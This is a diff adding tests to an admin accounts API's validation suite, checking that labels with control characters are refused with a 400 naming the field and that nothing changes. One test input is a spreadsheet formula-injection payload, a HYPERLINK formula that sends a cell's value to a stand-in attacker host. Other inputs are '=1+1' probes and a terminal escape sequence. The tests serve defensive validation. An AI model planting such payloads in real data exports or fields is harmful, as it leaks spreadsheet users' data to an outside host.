@@ -7,6 +7,9 @@ import { rawRequest } from '../helpers/raw.js';
 const CASES: Array<[string, string, string, unknown, RegExp[]]> = [
   ['an unknown plan alone', 'POST', '/admin/accounts', { plan: 'gold' }, [/^plan: .*gold/]],
   ['an unknown plan and a bad limit', 'POST', '/admin/accounts', { plan: 'gold', limit: -1 }, [/^plan: /, /^limit: /]],
+  ['a label starting with NUL', 'POST', '/admin/accounts', { plan: 'starter', label: '\u0000=1+1' }, [/^label: /]],
+  ['a label with DEL inside', 'POST', '/admin/accounts', { plan: 'starter', label: 'Acme\u007f' }, [/^label: /]],
+  ['a label with a control character', 'PATCH', '/admin/accounts/ID', { label: 'a\u001b[31m' }, [/^label: /]],
   ['one bad field', 'POST', '/admin/accounts', { plan: 'starter', limit: 0 }, [/^limit: /]],
   ['a plan without a default limit', 'POST', '/admin/accounts', { plan: 'enterprise' }, [/^limit: /]],
   [
@@ -63,4 +66,24 @@ t.test('public endpoints keep the two-field error body', async (t) => {
   const r = await gw.get(`/fuel-api/api/historical.php?from=2025-05&to=2025-01&api_key=${key}`);
   t.equal(r.status, 400);
   t.same(await r.json(), { success: false, message: 'Invalid date range.' });
+});
+
+t.test('a label with a control character is refused, naming label, and nothing changes', async (t) => {
+  const gw = await startGateway(t, { demo_accounts: false });
+  const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label: 'Acme' });
+  const id = made.body.account.id as string;
+  for (const label of ['\u0000=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\t=1+1', 'a\nb', '\u007f']) {
+    const create = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
+    t.equal(create.status, 400, `create ${JSON.stringify(label)}: 400`);
+    t.match(create.body.message, /label/);
+    const patch = await adminCall(gw, 'PATCH', `/admin/accounts/${id}`, { label });
+    t.equal(patch.status, 400, `patch ${JSON.stringify(label)}: 400`);
+    t.match(patch.body.problems, [/^label: /]);
+  }
+  const list = await adminCall(gw, 'GET', '/admin/accounts');
+  t.same(
+    list.body.accounts.map((a: { label: string }) => a.label),
+    ['Acme'],
+    'no account was made and the label is unchanged',
+  );
 });
